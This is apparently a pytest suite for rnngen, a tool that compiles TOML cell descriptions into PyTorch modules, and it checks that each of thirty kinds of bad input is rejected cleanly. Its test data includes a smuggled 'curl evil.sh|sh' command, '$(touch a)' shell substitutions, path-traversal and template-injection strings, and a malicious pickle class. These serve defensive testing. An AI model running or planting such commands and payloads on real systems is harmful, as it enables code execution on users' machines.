"""Thirty things that go wrong, and what must happen then: one test for each, by the command or the module that a user
has. Other files test most of them in more ways; here none can be missing.
"""

import ast
import io
import math
import os
import pickle
import py_compile
import re
import signal
import subprocess
import sys
import time
import warnings
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
import torch
from click.testing import CliRunner, Result
from conftest import imported
from test_cli import CELL, python, rnngen
from test_cli import test_links_are_followed_only_within_their_directory as links
from test_runtime import test_imported_twice as imported_twice
from test_runtime import test_two_cells_of_one_name as two_cells_of_one_name
from test_untrusted import cell_of, doubling
from torch import nn
from torch.nn.utils.rnn import pack_padded_sequence, pad_packed_sequence

from rnngen.cli import main
from rnngen.compile import compile_model
from rnngen.description import library
from rnngen.document import MOST_BYTES
from rnngen.runtime.seal import FORMAT, NO_DIGEST, condition, renewal, sealed
from rnngen.source import Source

STEP = "n  = tanh(W @ x + U @ h + b)\nh' = (1 - alpha) * h + alpha * n"
MODEL = 'name = "net"\ninputs = 3\n[[layers]]\ncell = "lstm"\nhidden = 8\n'


@pytest.fixture
def run(tmp_path, monkeypatch):
    """The command in an empty directory."""
    monkeypatch.chdir(tmp_path)

    def run(*arguments: object, **options) -> Result:
        return CliRunner().invoke(main, [str(argument) for argument in arguments], **options)

    return run


@pytest.fixture
def rejected(run, tmp_path):
    """rejected(content of a model.toml): what the user is told. Exit code 1, nothing else written, no traceback."""

    def rejected(content: str | bytes, *words: str) -> str:
        path = tmp_path / "model.toml"
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        start = time.process_time()
        result = run("compile", "model.toml")
        assert time.process_time() - start < 1
        assert (result.exit_code, result.stdout) == (1, ""), result.output
        assert os.listdir(tmp_path) == ["model.toml"]
        assert "Traceback" not in result.stderr
        for word in words:
            assert word in result.stderr, result.stderr
        return result.stderr

    return rejected


def with_step(step: str) -> str:
    assert STEP in CELL
    return CELL.replace(STEP, step)


def marked(told: str) -> list[str]:
    """What of the source lines stands above the carets."""
    found = []
    for line, carets in zip(told.split("\n"), told.split("\n")[1:], strict=False):
        if (place := re.match(r" *(\^+)", carets)) and re.match(r"\d+ \| ", line):
            found.append(line[place.start(1) : place.end(1)])
    return found


# ---- The text ----


def test_fault_01(rejected):
    """A syntax error of TOML has its place and a caret."""
    told = rejected("a = ]\n")
    assert told.startswith('File "model.toml", line 1, column 5\n1 | a = ]\n        ^\n')
    assert "The file is not valid TOML: invalid value. [toml-syntax]" in told


def test_fault_02(rejected, run):
    """What is no UTF-8 is told where it begins; a byte order mark does no harm."""
    rejected(CELL.replace("leaky", "leäky").encode("latin-1"), "not UTF-8 at byte 12", "[not-utf8]")
    rejected(CELL.encode("utf-16"), "not UTF-8 at byte 0", "save it as UTF-8")
    rejected(CELL.encode().replace(b"leaky", b"lea\0ky"), "[nul-character]")
    Path("model.toml").write_bytes(b"\xef\xbb\xbf" + CELL.encode())
    assert run("compile", "model.toml").exit_code == 0


def test_fault_03(run, tmp_path):
    """A model is a regular file of at most 256 KiB, or as much from standard input."""
    Path("large.toml").write_bytes(b"#" * (MOST_BYTES + 1))
    os.mkfifo("pipe.toml")
    Path("folder.toml").mkdir()
    for path, words in (
        ("large.toml", "is larger than the 256 KiB"),
        ("/dev/zero", "is a device, pipe or socket"),
        ("pipe.toml", "is a device, pipe or socket"),
        ("folder.toml", "is a directory"),
    ):
        result = run("compile", path)
        assert (result.exit_code, result.stdout) == (2, "")
        assert words in result.stderr
    result = run("compile", "-", input="#" * (MOST_BYTES + 1))
    assert (result.exit_code, result.stderr) == (
        2,
        "Error: '<stdin>' is larger than the 256 KiB that a model file may have.\n",
    )
    full = CELL + "#" * (MOST_BYTES - len(CELL))
    assert run("compile", "-", input=full).stdout == "wrote leaky.c\nwrote leaky.py\n"
    text = Path("leaky.py").read_text()
    assert "# Source: <stdin>, sha256 " in text and "# Renew:  rnngen compile -\n" in text
    assert run("show", "-", input=CELL).stdout.startswith("leaky, after cut\n")
    assert "128 units" in run("explain", "-", input=CELL).stdout
    for command in ("compile", "show", "explain", "verify"):
        result = run(command, "-", input=CELL.replace("U @ h", "V @ h"))
        assert (result.exit_code, result.stdout) == (1, "")
        assert result.stderr.startswith('File "<stdin>", line 5, column 19\n')
    assert run("compile", "-", "-", input=CELL).exit_code == 2
    with open("/dev/zero", "rb") as zeros:
        endless = rnngen("compile", "-", stdin=zeros)
    assert (endless.returncode, b"larger than the 256 KiB" in endless.stderr) == (2, True)


def test_fault_04(rejected):
    """A key of 20,000 parts, for which tomllib takes seconds."""
    assert len(marked(rejected(".".join("a" * 20_000) + " = 1", "[key-too-long]"))) == 1


def test_fault_05(rejected):
    """Brackets 500 deep, at which tomllib gives up."""
    rejected("a = " + "[" * 500, "nested more than 32 deep", "[nested-too-deep]")


def test_fault_06(rejected):
    """An integer of 5,000 digits, which Python does not read."""
    rejected("a = " + "9" * 5000, "[number-too-long]")


# ---- Keys and values ----


def test_fault_07(rejected):
    """Unknown keys, all in one answer, each with the key that was meant."""
    told = rejected(MODEL.replace("hidden", "hiden") + "num_layer = 2\n" + "[cells.a]\nstate = ['h']\n")
    for wrong, meant in (("hiden", "hidden"), ("num_layer", "num_layers"), ("state", "states")):
        assert wrong in marked(told)
        assert f"did you mean '{meant}'?" in told


@pytest.mark.parametrize("value", ["true", "8.0", '"8"', "[8]", "{}", "1979-05-27"])
def test_fault_08(rejected, value):
    """A size is an integer, and true is none."""
    told = rejected(MODEL.replace("hidden = 8", f"hidden = {value}"), "'hidden' must be an integer", "[wrong-type]")
    assert marked(told) == [value]


@pytest.mark.parametrize(
    ("line", "allowed"),
    [
        *((f"hidden = {size}", "from 1 to 65536") for size in (0, -1, 10**9)),
        *((f"hidden = 8\ndropout = {p}", "from 0 to 1") for p in ("1.5", "-0.1", "nan", "inf")),
        ("hidden = 8\nnum_layers = 1000000", "from 1 to 256"),
        ("hidden = 65536", "GiB in float32"),
    ],
)
def test_fault_09(rejected, line, allowed):
    """What is out of range is told the range; what would not fit, how large it would be."""
    rejected(MODEL.replace("hidden = 8", line), allowed)


# ---- Names ----


@pytest.mark.parametrize("name", ["../../etc/x", "/abs", "a/b", "con", "x.py", "", "n" * 10_000, "a b", "1a", "_a"])
def test_fault_10(rejected, name):
    """A module is called as its model, so that is a name and no path."""
    told = rejected(CELL.replace("leaky", name))
    assert "[bad-name]" in told or "[reserved-name]" in told


@pytest.mark.parametrize("name", ["class", "__class__", "torch", "tl", "self", "print"])
def test_fault_11(rejected, name):
    """Words that Python or the generated code needs are nobody's name; a module hides none that Python imports."""
    assert re.search(r"\[(bad|reserved)-name\]", rejected(CELL.replace("leaky", name)))
    state = CELL.replace('["h"]', f'["{name}"]').replace("h'", f"{name}'").replace("U @ h", f"U @ {name}")
    assert re.search(r"\[(bad|reserved)-name\]", rejected(state.replace("* h ", f"* {name} ")))


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        *((name, "would hide a module that Python or torch imports") for name in ("os", "numpy", "jinja2", "typing")),
        *((name, "Python runs it at every start") for name in ("sitecustomize", "usercustomize")),
        ("conftest", "pytest runs it"),
        ("Conftest", "pytest runs it"),  # one file with the other on some systems
        *((name, "pytest runs it") for name in ("test_lstm", "lstm_test", "Test_", "lstm_Test")),
        *((f"jupyter{name}_config", "Jupyter runs it") for name in ("", "_notebook", "_server", "_lab", "_nbconvert")),
        ("setup", "pip runs it"),
    ],
)
def test_fault_11_of_files(rejected, name, reason):
    rejected(CELL.replace("leaky", name), "[reserved-name]", reason)


@pytest.mark.parametrize("name", ["test", "testing", "latest", "contest", "jupyter", "config"])
def test_fault_11_takes_no_more_names_than_it_must(name):
    assert compile_model(Source("model.toml", CELL.replace("leaky", name))).name == name


@pytest.mark.parametrize(("letter", "code"), [("\uff53", "U+FF53"), ("\u210e", "U+210E"), ("\u00b5", "U+00B5")])
def test_fault_12(rejected, letter, code):
    """Letters that Python takes for others, in an equation and in a name."""
    rejected(with_step(STEP.replace("tanh", f"{letter}anh")), "[ascii-only]", code)
    rejected(CELL.replace("leaky", f"leaky{letter}"), "[bad-name]", code)


ABOUTS = ['"""', "a\rb", "a\nb", "{{7*7}}", "{% for a in b %}", "\\", "\u202egnp", 'a"""\nimport os\n"""', "\x07", "#"]


@pytest.mark.parametrize("about", ABOUTS)
def test_fault_13(about, layer_of):
    """A description is data, whatever is in it."""
    text = CELL.replace('states = ["h"]', f'about = {toml(about)}\nstates = ["h"]')
    module = compile_model(Source("model.toml", text)).text
    assert module.isascii()
    assert about in [node.value for node in ast.walk(ast.parse(module)) if isinstance(node, ast.Constant)]
    assert layer_of(text).__doc__ == about


def toml(text: str) -> str:
    return '"' + "".join(c if c.isalnum() else f"\\U{ord(c):08x}" for c in text) + '"'


# ---- Equations ----


@pytest.mark.parametrize(
    ("wrong", "place"),
    [
        ("__import__('os')", "'"),
        ("__import__(h)", "__import__"),
        ("h.__class__", "."),
        ("x[0]", "["),
        ("lambda: h", "lambda"),
        ("(a := h)", ":="),
        ("f'{h}'", "{"),
        ("[a for a in h]", "["),
        ("x if h else b", "if"),
        ("tanh(input=h)", "="),
        ("h < b < n", "<"),
        ("not h", "not"),
        ("h ** 2", "**"),
        ("h; b", ";"),
        ("'a'", "'"),
        ("a \\\\ b", "\\"),
        ("@ h", "@"),
    ],
)
def test_fault_14(rejected, wrong, place):
    """What is no equation of ours is not allowed, and is told so where it stands."""
    told = rejected(with_step(STEP.replace("b)", f"b) + {wrong}")))
    assert any(found.startswith(place) for found in marked(told)), told


@pytest.mark.parametrize(
    "right",
    ["-" * 10_000 + "h", "+".join("h" * 100_000), "(" * 250 + "h" + ")" * 250, "-" * 70 + "h"],
)
def test_fault_15(rejected, right):
    """An equation too long or too deep; Python's own parser fails on these in four ways."""
    rejected(with_step(f"{STEP}\nm = {right}"), "[too-large]")


def test_fault_15_of_surrogates(rejected):
    rejected(with_step(STEP.replace("b)", "b) + \\ud800")), "[toml-syntax]")


def test_fault_16(rejected):
    """A small text does not make a large module: what is shared stays shared, and what cannot be has a limit."""
    small, large = (len(compile_model(Source("m.toml", doubling(count))).text) for count in (40, 80))
    assert large < 2.3 * small
    products = ["a0 = tanh(W @ x + U @ h + b)", *(f"a{n} = U @ a{n - 1}" for n in range(1, 250)), "h' = a249"]
    rejected(cell_of(products), "values, forwards and backwards", "[too-large]")


@pytest.mark.parametrize(
    ("right", "code"),
    [("1e999 * h", "not-finite"), ("nan * h", "unknown-name"), ("9**9**9 * h", "not-allowed"), ("h / 0", "not-finite")],
)
def test_fault_17(rejected, right, code):
    """Numbers are finite."""
    rejected(with_step(f"{STEP} + {right}"), f"[{code}]")


@pytest.mark.parametrize("number", ["3.4028236e38", "1e300"])
def test_fault_17_of_float32(rejected, number):
    """A layer has float32 unless it is asked for another dtype; so what is a constant's limit is one of a literal."""
    must = "must be a finite number of float32, at most 3.4028235e+38"
    rejected(CELL.replace("0.3", number), f"'alpha' {must}")
    told = rejected(with_step(f"{STEP} + {number} * h"), "[not-finite]", f"This number {must}.", "infinite in float32")
    assert "^" * len(number) in told
    compile_model(Source("m.toml", with_step(f"{STEP} + 3.4028234e38 * h")))


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e999"])
def test_fault_17_of_constants(rejected, value):
    rejected(CELL.replace("0.3", value), "must be a finite number")


def test_fault_17_beside_others(rejected):
    """What is missing in a table of a parameter hides nothing that is wrong there."""
    told = rejected(
        CELL.replace('blocks = ["W"] }', 'init = "uniforn" }')
        .replace('shape = ["hidden", "hidden"], blocks', "init = { U = 1e39, V = 0.5 }, blocks")
        .replace('blocks = ["b"] }', 'blocks = ["b", 1], init = "orthogonal" }'),
        "There is no initialiser 'uniforn'",
        "'shape' is missing",
        "'init' must be a finite number of float32",
        "has no block 'V'",
        "'orthogonal' is for matrices only",
    )
    assert told.count("[unknown-block]") == 1


def test_fault_18(rejected):
    """Names that are unknown, idle, missing, in a circle, or defined twice."""
    rejected(with_step(STEP.replace("U @ h", "V @ h")), "[unknown-name]")
    rejected(with_step(f"{STEP}\nq = n"), "[unused]")
    rejected(CELL.replace('["h"]', '["h", "c"]'), "[never-updated]")
    rejected(with_step(STEP.replace("b)", "b + f)") + "\nf = sigmoid(n)"), "n → f → n", "[circle]")
    rejected(with_step(f"{STEP}\nn = h"), "[duplicate-equation]", "the first definition is in line 5")


def test_fault_19(rejected):
    """Shapes that do not fit are both told."""
    told = rejected(with_step(STEP.replace("W @ x", "W @ (x * h)")))
    assert "'*' cannot combine (inputs) and (hidden). [shape]\nNote: 'x' is (inputs) and 'h' is (hidden)." in told


@pytest.mark.parametrize("right", ["h''", "h[1]", "h(1)"])
def test_fault_20(rejected, right):
    """A step knows the step before it and no other."""
    told = rejected(with_step(STEP.replace("U @ h", f"U @ {right}")))
    assert re.search(r"\[(not-causal|not-allowed|unknown-function)\]", told)


# ---- Files ----


def test_fault_21(run, tmp_path):
    """Places that cannot be written to, and files that are somebody's."""
    Path("model.toml").write_text(CELL)
    assert run("compile", "model.toml", "-o", "new/folder").stdout.endswith("wrote new/folder/leaky.py\n")
    assert run("compile", "model.toml", "-o", "model.toml").exit_code == 2
    module = Path("new/folder/leaky.py")
    module.write_text(module.read_text().replace("tanh", "sin"))
    edited = module.read_bytes()
    refused = run("compile", "model.toml", "-o", "new/folder")
    assert (refused.exit_code, "--force overwrites it" in refused.stderr) == (2, True)
    module.chmod(0o444)
    assert run("compile", "model.toml", "-o", "new/folder", "--force").exit_code == 2
    assert module.read_bytes() == edited
    module.chmod(0o644)
    assert run("compile", "model.toml", "-o", "new/folder", "--force").exit_code == 0
    full = (
        "import resource, signal; signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))\n"
        "from rnngen.cli import main; main(['compile', 'model.toml', '-o', 'new/folder', '--force'])"
    )
    module.write_bytes(edited)
    assert python("-B", "-c", full, cwd=tmp_path).returncode == 1
    assert module.read_bytes() == edited
    links(run, tmp_path)


@pytest.mark.parametrize("name", ["SIGINT", "SIGKILL"])
def test_fault_22(run, tmp_path, name):
    """Interrupted, or two at once: the file is the old one or the new one, whole."""
    Path("model.toml").write_text(CELL)
    run("compile", "model.toml")
    old = Path("leaky.py").read_bytes()
    Path("model.toml").write_text(CELL.replace("0.3", "0.4"))
    script = (
        "import os, signal, time; from rnngen.cli import main\n"
        f"os.replace = lambda *_: (os.kill(os.getpid(), signal.{name}), time.sleep(9))\n"
        "main(['compile', 'model.toml'])"
    )
    assert python("-c", script, cwd=tmp_path).returncode == (130 if name == "SIGINT" else -signal.SIGKILL)
    assert Path("leaky.py").read_bytes() == old
    with ThreadPoolExecutor() as pool:
        two = list(pool.map(lambda _: rnngen("compile", "model.toml", cwd=tmp_path), range(2)))
    assert [done.returncode for done in two] == [0, 0]
    assert condition(Path("leaky.py").read_bytes()) == "intact" and b"0.4" in Path("leaky.py").read_bytes()


def test_fault_23():
    """Nobody reads the output, or its disk is full."""
    reader, writer = os.pipe()
    os.close(reader)
    closed = rnngen("compile", "lstm", "--stdout", capture_output=False, stdout=writer, stderr=subprocess.PIPE)
    os.close(writer)
    assert (closed.returncode, closed.stderr) == (141, b"")
    with open("/dev/full", "wb") as disk:
        full = rnngen("compile", "lstm", "--stdout", capture_output=False, stdout=disk, stderr=subprocess.PIPE)
    assert (full.returncode, full.stderr.count(b"\n")) == (1, 1)
    assert full.stderr.startswith(b"Error: the output cannot be written: ")


RNN = compile_model(library()["rnn"]).text
CHECK = next(line for line in RNN.splitlines(keepends=True) if line.startswith("check_module("))
assert f"format={FORMAT}, " in CHECK


def resealed(text: str) -> str:
    """The text as rnngen would have written it."""
    return sealed(re.sub("(?<=sha256 )[0-9a-f]{64}", NO_DIGEST, text, count=1))


def importing(path: Path, text: str) -> list[str]:
    """Import a module of this text; the warnings that came."""
    path.write_text(text)
    with warnings.catch_warnings(record=True, action="always") as caught:
        module = imported(path)
        assert module.RNN(3, 4)(torch.zeros(2, 1, 3))[0].shape == (2, 1, 4)
    return [str(warning.message) for warning in caught]


def test_fault_24(run, tmp_path):
    """A module of another format or cut off is no module; an edited one works, and is named."""
    path = tmp_path / "rnn.py"
    assert importing(path, RNN) == []
    assert importing(path, RNN.replace("\n", "\r\n")) == []
    other = resealed(RNN.replace(CHECK, f"check_module(__spec__, format={FORMAT + 1})\n"))
    assert condition(other.encode()) == "intact"
    with pytest.raises(ImportError, match=rf"in format {FORMAT + 1}, .* runs format {FORMAT}\..*: rnngen compile rnn$"):
        importing(path, other)
    assert f"rnn.py is written in format {FORMAT + 1}" in run("doctor").stdout
    for lines in (
        RNN.count("\n") - 1,
        RNN[: RNN.index("class RNN")].count("\n"),
        RNN[: RNN.index("import torch")].count("\n"),
    ):
        cut = "".join(RNN.splitlines(keepends=True)[:lines])
        with pytest.raises(ImportError, match=r"is cut off: .*: rnngen compile --force rnn$"):
            importing(path, cut)
    assert "rnn.py is cut off" in run("doctor").stdout
    assert run("compile", "rnn", "--check").exit_code == 1
    with pytest.raises(SyntaxError):  # cut in the middle of a statement it is no Python, and never asks
        importing(path, RNN[: RNN.index("weights=(") + 9])
    assert "rnn.py is cut off" in run("doctor").stdout
    edited = RNN.replace('"""The cell rnn."""', '"""My cell."""')
    (warning,) = importing(path, edited)
    assert "was edited by hand" in warning and warning.endswith("rnngen compile --force rnn")
    assert len(importing(path, f"{RNN}\nMINE = 1\n")) == 1
    check = run("compile", "rnn", "--check")
    assert (check.exit_code, check.stdout.splitlines()[-1]) == (1, "rnn.py was edited by hand, or is not rnngen's")
    assert "rnn.py was edited by hand: rnngen compile --force rnn" in run("doctor").stdout
    assert run("compile", "--force", "rnn").exit_code == 0
    assert "edited" not in run("doctor", path).stdout


@pytest.mark.parametrize(
    "command",
    [
        "rnngen compile a;curl evil.sh|sh",
        "rnngen compile $(touch a)",
        "rnngen compile `touch a`",
        "rnngen compile 'a'; touch b; 'c'",
        "rnngen compile 'a' b",
        "rnngen compile a b",
        "rnngen compile $'a'$(touch b)'c'",
        "rnngen compile $'a\\' ; touch b'",
        "rnngen compile $'a\\x2'",
        "rnngen compile -o",
        "rnngen compile --force a",
        "rnngen compile ../a.toml",
        "rnngen compile ~root",
        "rnngen compile 'a!b'",
        "rnngen compile a\\",
        "rnngen compile ",
        "sh a",
    ],
)
def test_a_command_that_rnngen_would_not_write_is_told_to_nobody(run, tmp_path, command):
    """The header of a module from a stranger may say anything."""
    text = re.sub("^# Renew:  .*$", lambda match: f"# Renew:  {command}", RNN, flags=re.MULTILINE)
    (warning,) = importing(tmp_path / "rnn.py", text)
    assert warning.endswith("comes back by: rnngen compile --force MODEL")
    assert "was edited by hand: rnngen compile --force MODEL\n" in run("doctor", tmp_path).stdout


@pytest.mark.parametrize(
    "name",
    ["a.toml", "-a.toml", "my cell.toml", "a'b.toml", "\xe4.toml", "a$(b).toml", "~a", "-", "a\\b", "#", "a@b+c,d"],
)
def test_the_command_of_any_file_is_found_again(name):
    """As it stands in the header."""
    module = compile_model(Source(name, library()["rnn"].text + "\n")).text
    command = re.search(r"^# Renew:  (.*)$", module, re.MULTILINE)[1]
    assert renewal(module.encode()) == command


def test_fault_24_without_the_text(tmp_path):
    """Bytecode alone, and a file that is run as a script, are taken as they are; in an archive there is a text."""
    (tmp_path / "rnn.py").write_text(RNN)
    py_compile.compile(tmp_path / "rnn.py", tmp_path / "bytecode" / "rnn.pyc", doraise=True)
    for name, text in (("whole", RNN), ("edited", RNN + "\n")):
        with zipfile.ZipFile(tmp_path / f"{name}.zip", "w") as archive:
            archive.writestr("rnn.py", text)
    script = (
        "import sys, runpy, warnings; sys.modules['triton'] = None\n"  # Triton reads the text of every kernel
        f"sys.path.insert(0, {str(tmp_path)!r})\n"
        "for place in ('bytecode', 'whole.zip', 'edited.zip'):\n"
        f"    sys.path[0] = {str(tmp_path)!r} + '/' + place\n"
        "    sys.modules.pop('rnn', None)\n"
        "    with warnings.catch_warnings(record=True, action='always') as caught: import rnn\n"
        "    print(place in rnn.__file__, rnn.RNN.__name__, [str(w.message) for w in caught])\n"
        f"runpy.run_path({str(tmp_path / 'rnn.py')!r}, run_name='__main__')"
    )
    done = python("-W", "error", "-c", script)
    assert done.returncode == 0, done.stderr
    bytecode, whole, edited = done.stdout.decode().splitlines()
    assert bytecode == whole == "True RNN []"
    assert edited.startswith("True RNN [\"The generated module 'rnn' was edited by hand.")


def test_fault_24_beside_the_whole_module(tmp_path):
    """An edited copy computes what it says, and neither it nor what it was before takes the other's place."""
    x = torch.linspace(-1, 1, 12).view(2, 2, 3)

    edited = RNN.replace("torch.tanh(", "torch.sin(")
    assert edited != RNN
    for number, text in enumerate((edited, RNN, edited.replace("torch.sin(", "torch.cos("), RNN)):
        folder = tmp_path / str(number)  # Python would take the bytecode of a file that is as long and as old
        folder.mkdir()
        importing(folder / "rnn.py", text)
        layer = sys.modules["rnn"].RNN(3, 5)
        torch.testing.assert_close(layer(x), layer.reference(x))


# ---- Where a module runs ----


@pytest.mark.parametrize("missing", [["triton"], ["triton", "numpy"]])
def test_fault_25(tmp_path, missing):
    """Without Triton, numpy or a driver a module is imported and runs on the CPU, and no warning disturbs."""
    (tmp_path / "rnn.py").write_text(RNN)
    script = (
        f"import sys; sys.modules |= dict.fromkeys({missing!r}); sys.path.insert(0, {str(tmp_path)!r})\n"
        "import warnings; warnings.filterwarnings('ignore', module='torch')\n"
        "import rnn, torch\n"
        "layer = rnn.RNN(3, 4); y, h = layer(torch.ones(5, 2, 3)); y.sum().backward()\n"
        "print(tuple(y.shape), all(p.grad.isfinite().all() for p in layer.parameters()))"
    )
    done = python("-W", "error:::rnn", "-c", script, environment={"CUDA_VISIBLE_DEVICES": ""})
    assert done.stdout == b"(5, 2, 4) True\n", done.stderr


class Pair:
    """A generated LSTM and torch's, with the same weights."""

    def __init__(self, layer_of) -> None:
        torch.manual_seed(0)
        self.ours, self.torchs = layer_of("lstm")(3, 4), nn.LSTM(3, 4)
        self.ours.load_state_dict(self.torchs.state_dict())

    def fail(self, *arguments) -> tuple[Exception, Exception]:
        errors = []
        for layer in (self.ours, self.torchs):
            with pytest.raises((RuntimeError, ValueError, TypeError, AssertionError)) as caught:
                layer(*arguments)
            errors.append(caught.value)
        return errors[0], errors[1]


@pytest.fixture
def pair(layer_of):
    return Pair(layer_of)


def zeros(*shape: int) -> torch.Tensor:
    return torch.zeros(*shape)


@pytest.mark.parametrize(
    ("arguments", "sizes"),
    [
        ((zeros(5, 2, 3, 1),), "4D"),
        ((zeros(5, 2, 4),), "Expected 3, got 4"),
        ((zeros(5, 2, 3).double(),), "float64"),
        ((zeros(0, 2, 3),), "sequence length"),
        ((zeros(5, 2, 3), (zeros(1, 2, 5), zeros(1, 2, 4))), r"\(1, 2, 4\)"),
        ((zeros(5, 2, 3), (zeros(1, 3, 4), zeros(1, 3, 4))), r"\(1, 2, 4\)"),
        ((zeros(5, 2, 3), (zeros(2, 4), zeros(2, 4))), "2-D"),
    ],
)
def test_fault_26(pair, arguments, sizes):
    """Arguments of the wrong shape or type: torch's class of error, with the sizes."""
    ours, torchs = pair.fail(*arguments)
    assert type(ours) is type(torchs)
    assert re.search(sizes, str(ours))


def test_fault_26_of_values(pair):
    """An empty batch, memory in any order, and a NaN that stays in its row."""
    assert pair.ours(zeros(5, 0, 3))[0].shape == (5, 0, 4)
    for x in (torch.randn(3, 5, 2).permute(1, 2, 0), torch.randn(1, 2, 3).expand(5, 2, 3), torch.randn(9, 2, 3)[::2]):
        torch.testing.assert_close(pair.ours(x), pair.torchs(x))
    x = torch.randn(5, 2, 3)
    x[1, 0, 0] = math.nan
    y = pair.ours(x)[0]
    assert y[1:, 0].isnan().all() and not y[:, 1].isnan().any() and not y[0].isnan().any()


def test_fault_27(pair):
    """Sequences in any order, and none without an element."""
    x, lengths = torch.randn(5, 3, 3), torch.tensor([2, 5, 3])
    packed = pack_padded_sequence(x, lengths, enforce_sorted=False)
    (ours, (h, c)), (torchs, (h_wanted, c_wanted)) = pair.ours(packed), pair.torchs(packed)
    wanted = (pad_packed_sequence(torchs)[0], h_wanted, c_wanted)
    torch.testing.assert_close((pad_packed_sequence(ours)[0], h, c), wanted)
    with pytest.raises(RuntimeError, match="greater than 0"):
        pair.ours(pack_padded_sequence(x, torch.tensor([2, 0, 3]), enforce_sorted=False))


class Opener:
    def __reduce__(self):
        return open, ("rnngen_was_here", "w")


def test_fault_28(pair, tmp_path, monkeypatch):
    """A checkpoint that does not fit names every key; one that would run something is not loaded."""
    monkeypatch.chdir(tmp_path)
    state = pair.torchs.state_dict()
    wrong = {key: value for key, value in state.items() if key != "bias_hh_l0"} | {"more": zeros(1)}
    wrong["weight_ih_l0"] = state["weight_ih_l0"].T
    with pytest.raises(RuntimeError) as caught:
        pair.ours.load_state_dict(wrong)
    for word in ("bias_hh_l0", "more", "weight_ih_l0", "[3, 16]", "[16, 3]"):
        assert word in str(caught.value)
    Path("checkpoint.pt").write_bytes(pickle.dumps({"weight_ih_l0": Opener()}, protocol=2))
    with pytest.raises(pickle.UnpicklingError):
        pair.ours.load_state_dict(torch.load("checkpoint.pt"))
    assert os.listdir() == ["checkpoint.pt"]
    buffer = io.BytesIO()
    torch.save(pair.ours.state_dict(), buffer)
    buffer.seek(0)
    pair.torchs.load_state_dict(torch.load(buffer))


def test_fault_29(module_of):
    """Modules loaded twice, two of one name, and workers that are forked."""
    imported_twice(module_of)
    two_cells_of_one_name(module_of)
    path = str(Path(module_of("gru").__file__))
    script = (
        f"import sys; sys.path.insert(0, {os.path.dirname(path)!r})\n"
        "import torch; from torch.utils.data import DataLoader\n"
        f"module = __import__({Path(path).stem!r}); assert not torch.cuda.is_initialized()\n"
        "layer = module.GRU(3, 4)\n"
        "class Set:\n"
        "    def __len__(self): return 4\n"
        "    def __getitem__(self, n): return layer(torch.full((5, 3), float(n)))[0].detach()\n"
        "loader = DataLoader(Set(), 2, num_workers=2, multiprocessing_context='fork')\n"
        "layer(torch.zeros(5, 1, 3))\n"
        "for n, y in enumerate(loader): torch.testing.assert_close(y[1], layer(torch.full((5, 3), 2.0 * n + 1))[0])\n"
        "print(y.shape)"
    )
    done = python("-c", script, environment={"OMP_NUM_THREADS": "1"})
    assert done.stdout == b"torch.Size([2, 5, 4])\n", done.stderr


def test_fault_30(layer_of):
    """What a layer cannot do is refused, with the name of what can."""
    layer, x = layer_of("lstm")(3, 4), torch.randn(5, 2, 3)
    with pytest.raises(NotImplementedError, match="Use the layer's `reference`"):
        torch.func.jvp(lambda x: layer(x)[0], (x,), (torch.ones_like(x),))
    assert torch.func.jvp(lambda x: layer.reference(x)[0], (x,), (torch.ones_like(x),))[1].any()
    with pytest.raises(NotImplementedError, match=r"use torch\.export\.export or torch\.jit\.trace"):
        torch.jit.script(layer)
    assert torch.export.export(layer, (x,)).module()(x)[0].shape == (5, 2, 4)
